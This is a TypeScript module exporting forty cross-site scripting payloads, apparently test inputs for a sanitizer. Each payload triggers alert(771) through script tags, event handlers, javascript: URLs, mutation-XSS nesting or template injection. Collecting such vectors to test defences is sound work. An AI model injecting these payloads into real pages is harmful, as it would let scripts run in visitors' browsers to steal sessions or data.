/** Cross-site scripting attempts: each would show a dialog with the number 771. */

const RUN = "alert(771)";

/** Forty of them, in groups of five; those that would swallow the ones behind them come last. */
export const HOSTILE_WORDS: readonly (readonly string[])[] = [
  [
    `<script>${RUN}</script>`,
    `<img src=x onerror=${RUN}>`,
    `<svg onload=${RUN}>`,
    `"><script>${RUN}</script>`,
    `<!--`,
  ],
  [
    `'><img src=x onerror=${RUN}>`,
    `" onmouseover="${RUN}" autofocus onfocus="${RUN}`,
    `' onfocus='${RUN}' autofocus='`,
    `<body onload=${RUN}>`,
    `<![CDATA[<img src=x onerror=${RUN}>`,
  ],
  [
    `</title><script>${RUN}</script>`,
    `</textarea><img src=x onerror=${RUN}>`,
    `</script><script>${RUN}</script>`,
    `</style><svg onload=${RUN}>`,
    `<textarea>`,
  ],
  [
    `<iframe srcdoc="<script>parent.${RUN}</script>">`,
    `<iframe src="javascript:parent.${RUN}">`,
    `<object data="javascript:${RUN}">`,
    `<embed src="javascript:${RUN}">`,
    `<title>`,
  ],
  [
    `<a href="javascript:${RUN}" id=x>x</a>`,
    `javascript:${RUN}`,
    `<form action="javascript:${RUN}"><input type=submit>`,
    `<base href="javascript:/a/-${RUN}//">`,
    `<plaintext>`,
  ],
  [
    `<details open ontoggle=${RUN}>`,
    `<video><source onerror=${RUN}></video>`,
    `<audio src=x onerror=${RUN}>`,
    `<input autofocus onfocus=${RUN}>`,
    `<style>`,
  ],
  [
    `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><script>${RUN}</script></svg>`,
    `<marquee onstart=${RUN}>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  ],
  [
    `{{constructor.constructor('${RUN}')()}}`,
    `\${${RUN}}`,
    `&lt;script&gt;${RUN}&lt;/script&gt;`,
    `\u2028<img src=x onerror=${RUN}>`,
    `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  ],
];
